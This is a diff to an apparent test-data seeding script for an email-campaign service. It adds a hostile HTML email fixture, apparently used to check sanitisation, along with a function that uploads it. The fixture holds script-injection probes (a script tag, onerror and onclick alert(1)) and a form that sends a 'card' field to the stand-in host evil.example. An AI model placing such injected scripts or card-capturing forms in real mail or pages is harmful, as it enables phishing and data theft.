@@ -112,6 +112,21 @@ def _message(chance: random.Random, campaign: str, number: int, at: int) -> Iter
         yield event("complained", 4 * HOUR)
 
 
+MAIL = f"""<html><head><base href="https://evil.example/"><script>document.title = "ran"</script></head><body>
+<p><a href="{LINKS[0]}"><img src="https://evil.example/pixel.gif" alt="Black Friday" onerror="alert(1)"></a></p>
+<p><a href="{LINKS[1]}" onclick="alert(1)">Lamps</a> or <a href="{LINKS[2]}">how we pack</a></p>
+<p><a href="{LINKS[1]}">Lamps again</a></p>
+<form action="https://evil.example"><input name="card"><button>Pay</button></form></body></html>"""
+"""A mail with one address in two places, and with what must not run, load or submit."""
+
+
+def put_mail(base: str, key: str) -> None:
+    """Send the HTML of the newest mailing."""
+    headers = {"Authorization": f"Bearer {key}", "Content-Type": "text/html"}
+    url = f"{base}/v1/html/campaigns/{MAILINGS[0][0]}"
+    urllib.request.urlopen(urllib.request.Request(url, MAIL.encode(), headers, method="PUT"), timeout=60).close()
+
+
 def post(url: str, key: str, records: list[dict[str, Any]]) -> dict[str, Any]:
     body = "\n".join(json.dumps(record) for record in records).encode()
     headers = {"Authorization": f"Bearer {key}", "Content-Type": "application/x-ndjson"}
@@ -122,6 +137,7 @@ def post(url: str, key: str, records: list[dict[str, Any]]) -> dict[str, Any]:
 def send_all(base: str, key: str, now: int) -> int:
     """Send the whole program; return how many events that were."""
     post(f"{base}/v1/campaigns", key, campaigns(now))
+    put_mail(base, key)
     found = list(events(now))
     for start in range(0, len(found), 1000):
         post(f"{base}/v1/events", key, found[start : start + 1000])
